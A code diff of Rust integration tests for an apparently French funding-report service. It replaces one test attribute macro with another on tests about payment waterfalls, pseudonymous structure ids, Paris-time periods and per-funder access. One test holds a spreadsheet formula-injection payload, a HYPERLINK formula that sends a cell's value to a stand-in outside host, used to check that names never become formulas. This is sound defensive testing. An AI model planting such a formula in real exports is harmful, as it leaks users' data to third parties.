@@ -59,7 +59,7 @@ fn cents(amounts: [(i64, i64); 2]) -> Vec<(Cents, Cents)> {
 }
 
 /// Paid, returned, paid elsewhere, reversed, deducted, expired: the lines follow the waterfall to the cent, funder by funder.
-#[sqlx::test(migrations = false)]
+#[testkit::test]
 async fn lines_sum_to_the_waterfall_whatever_happens(admin: PgPool) {
     let world = march(admin).await;
     assert_eq!(sums_agree(&world).await, cents([(1336, 0), (2664, 0)]));
@@ -115,7 +115,7 @@ async fn lines_sum_to_the_waterfall_whatever_happens(admin: PgPool) {
     world.all_hold().await;
 }
 
-#[sqlx::test(migrations = false)]
+#[testkit::test]
 async fn a_line_says_what_was_done_where_and_never_who(admin: PgPool) {
     let world = march(admin).await;
     sqlx::query("update redemption.structure set commune = 'Dijon', place = '{\"code_insee\": \"21231\"}'")
@@ -166,7 +166,7 @@ async fn a_line_says_what_was_done_where_and_never_who(admin: PgPool) {
 }
 
 /// A structure's id is made from its SIRET, which everybody can look up: a funder must not be able to try them all.
-#[sqlx::test(migrations = false)]
+#[testkit::test]
 async fn a_structure_has_a_pseudonym_that_is_one_funders_and_stays(admin: PgPool) {
     let world = march(admin).await;
     let named = async |funder: uuid::Uuid| -> BTreeMap<String, String> {
@@ -201,7 +201,7 @@ async fn a_structure_has_a_pseudonym_that_is_one_funders_and_stays(admin: PgPool
 }
 
 /// The last second of March is April in Paris: the same day as in the settlement.
-#[sqlx::test(migrations = false)]
+#[testkit::test]
 async fn a_period_is_of_paris_days_and_a_programme_is_one(admin: PgPool) {
     let world = march(admin).await;
     let claims = async |query: &str| {
@@ -231,7 +231,7 @@ async fn a_period_is_of_paris_days_and_a_programme_is_one(admin: PgPool) {
     assert_eq!(world.status("/funding/v1/reports/claims?from=avril").await, 400);
 }
 
-#[sqlx::test(migrations = false)]
+#[testkit::test]
 async fn a_funder_reads_its_own_shares_and_no_others(admin: PgPool) {
     let world = march(admin).await;
     let own = world.key_of(FUNDERS[0], None).await;
@@ -262,7 +262,7 @@ async fn a_funder_reads_its_own_shares_and_no_others(admin: PgPool) {
 }
 
 /// Whoever names a programme or a structure writes into other people's spreadsheets.
-#[sqlx::test(migrations = false)]
+#[testkit::test]
 async fn a_name_is_never_a_formula(admin: PgPool) {
     let world = march(admin).await;
     let formula = r#"=HYPERLINK("http://ailleurs.example/"&B2;"détail")"#;
